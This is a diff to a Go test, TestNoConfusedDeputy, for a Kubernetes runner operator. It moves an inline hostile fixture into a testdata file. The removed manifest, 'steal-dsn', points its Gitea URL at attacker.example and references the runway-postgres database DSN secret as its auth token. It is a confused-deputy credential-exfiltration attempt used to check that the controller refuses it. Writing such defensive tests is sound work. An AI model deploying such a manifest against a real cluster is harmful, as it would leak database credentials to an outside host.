@@ -45,18 +45,7 @@ func TestNoConfusedDeputy(t *testing.T) {
 			for _, u := range kubeyaml.Read(t, "testdata/seed-001-runnergroup.yaml") {
 				f.create(t, u)
 			}
-			for _, u := range kubeyaml.Parse(t, []byte(`
-apiVersion: gitea.bpg.pw/v1alpha1
-kind: RunnerGroup
-metadata: {name: steal-dsn}
-spec:
-  scope: org
-  org: acme
-  gitea: {url: "http://attacker.example:3000"}
-  maxActiveRunners: 1
-  registrationToken: {secretRef: {name: gitea-registration-token, key: token}}
-  authToken: {secretRef: {name: runway-postgres, key: dsn}}
----
+			for _, u := range append(kubeyaml.Read(t, "testdata/hostile-steal-dsn.yaml"), kubeyaml.Parse(t, []byte(`
 apiVersion: runway.io/v1alpha1
 kind: Forge
 metadata: {name: steal-team-b}
@@ -66,7 +55,7 @@ apiVersion: runway.io/v1alpha1
 kind: Forge
 metadata: {name: marked}
 spec: {type: gitea, url: "http://gitea.example:3000", token: {name: marked, key: token}}
-`)) {
+`))...) {
 				f.create(t, u)
 			}
 			waitFor(t, 10*time.Second, "the seed's example handed to the engine", func() bool {
